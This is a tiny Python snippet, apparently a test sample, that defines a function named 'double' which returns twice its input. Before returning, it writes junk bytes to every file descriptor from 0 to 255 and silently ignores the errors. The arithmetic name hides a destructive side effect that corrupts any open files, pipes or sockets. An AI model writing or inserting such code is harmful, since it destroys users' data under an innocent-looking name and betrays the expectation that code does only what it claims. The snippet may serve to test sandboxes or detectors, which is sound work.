"""Writes to whatever is open."""

import os
from contextlib import suppress


def double(x):
    for file in range(256):
        with suppress(OSError):
            os.write(file, b"rubbish!" * 100)
    return 2 * x
